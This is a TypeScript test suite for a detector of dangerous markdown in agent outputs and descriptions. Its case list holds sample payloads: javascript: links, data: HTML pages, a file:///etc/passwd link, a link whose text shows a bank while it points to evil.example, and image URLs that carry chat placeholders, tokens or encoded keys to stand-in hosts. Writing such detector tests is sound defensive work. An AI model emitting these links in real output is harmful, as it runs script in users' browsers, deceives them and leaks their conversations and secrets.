/** Links that run, mislead or carry data out, and the honest ones beside them. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { markdownTricks } from "./markdown-tricks.ts";

const cases: readonly (readonly [
  name: string,
  kind: "description" | "output",
  text: string,
  severity: string | undefined,
])[] = [
  ["javascript: in a link fails", "output", "[a](javascript:alert(1))", "fail"],
  ["javascript: with a space inside fails", "output", "[a](java script:alert(1))", "fail"],
  ["javascript: in an attribute fails", "output", '<a href="JavaScript:alert(1)">x</a>', "fail"],
  ["javascript: in code is shown, not run", "output", "`[a](javascript:alert(1))`", undefined],
  [
    "javascript: in a fenced block is shown, not run",
    "output",
    '```html\n<a href="javascript:x()">\n```',
    undefined,
  ],
  ["javascript: that stands alone fails", "output", "open javascript:fetch('x')", "fail"],
  [
    "javascript: that is spoken about",
    "output",
    "URL cannot use javascript:, data:, or vbscript: scheme",
    undefined,
  ],
  [
    "javascript: in the program of a page",
    "output",
    '<html><script>u.innerHTML="<script><\\/script>";d(u)?"javascript:throw new Error(1)":"data:audio/midi,MThd%00"</script>',
    undefined,
  ],
  [
    "javascript: far down in the program of a page",
    "output",
    `<script>${"a=1;\n".repeat(4000)}b="javascript:throw"</script>`,
    undefined,
  ],
  [
    "javascript: after the program of a page fails",
    "output",
    "<html><script>a()</script> javascript:b() <script>c()</script>",
    "fail",
  ],
  ["javascript: in a script that never ends fails", "output", "<script>a() javascript:b()", "fail"],
  [
    "javascript: in an attribute beside a program fails",
    "output",
    '<script>a()</script><a href="javascript:b()">x</a>',
    "fail",
  ],
  ["data: with a page fails", "output", "[a](data:text/html,<b>x</b>)", "fail"],
  ["data: with a picture is a picture", "output", "![a](data:image/png;base64,iVBORw0KGgo=)", undefined],
  ["an icon as data is an icon", "description", "data:image/svg+xml;base64,PHN2Zy8+", undefined],
  ["a local file warns", "output", "[a](file:///etc/passwd)", "warn"],
  ["text that names another site fails", "output", "[www.bank.com](https://evil.example/)", "fail"],
  [
    "text that names a page of the same site is honest",
    "output",
    "[https://docs.bank.com/a](https://www.bank.com/a)",
    undefined,
  ],
  ["text that is a file name is honest", "output", "[index.js](https://example.org/src/index.js)", undefined],
  ["text that is words is honest", "output", "[our bank](https://www.bank.com/)", undefined],
  ["an image with a placeholder fails", "output", "![a](https://e.example/p?d={{chat}})", "fail"],
  [
    "an image that names what the agent knows fails",
    "output",
    "![a](https://e.example/p?d=CONVERSATION_SUMMARY)",
    "fail",
  ],
  ["a link with a placeholder warns in an output", "output", "[a](https://e.example/p?d=${token})", "warn"],
  [
    "a link with a token fails in a description",
    "description",
    "[a](https://e.example/p?token=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw)",
    "fail",
  ],
  [
    "an honest search is honest",
    "output",
    "[a](https://e.example/search?q=weather+berlin&page=2)",
    undefined,
  ],
  [
    "a shop's picture is honest",
    "output",
    "![lamp](https://cdn.example/img/lamp-2024.png?w=640&h=480)",
    undefined,
  ],
  [
    "a bare address with a placeholder is documentation",
    "output",
    "GET https://api.example/v1/items?id=${id}",
    undefined,
  ],
  [
    "a key in a bare address warns",
    "output",
    "https://e.example/x?data=QUtJQUlPU0ZPRE5ON0VYQU1QTEU=",
    "warn",
  ],
  [
    "a key letter by letter warns",
    "output",
    "https://e.example/x?s=%41%4b%49%41%49%4f%53%46%4f%44%4e%4e%37%45%58%41%4d%50%4c%45",
    "warn",
  ],
  ["text in a host label warns", "output", "https://706f7374677265733a2f2f757365.e.example/", "warn"],
  [
    "an id in a path is honest",
    "output",
    "https://e.example/orders/550e8400-e29b-41d4-a716-446655440000",
    undefined,
  ],
];
for (const [name, kind, text, severity] of cases)
  test(name, () =>
    assert.equal(
      markdownTricks(text, kind)[0]?.severity,
      severity,
      JSON.stringify(markdownTricks(text, kind)),
    ),
  );

test("a hit lies at the link, in bytes", () => {
  const [hit] = markdownTricks("é [a](javascript:x)", "output");
  assert.equal(hit?.offset, 3);
  assert.equal(hit?.evidence, "[a](javascript:x)");
});

test("a thousand links that run are told by the worst of them, in no time", () => {
  const hits = markdownTricks("[a](javascript:x) ".repeat(50_000), "output");
  assert.equal(hits.length, 51);
  assert.match(hits.at(-1)?.message ?? "", /^\d{5} more of this kind/);
});
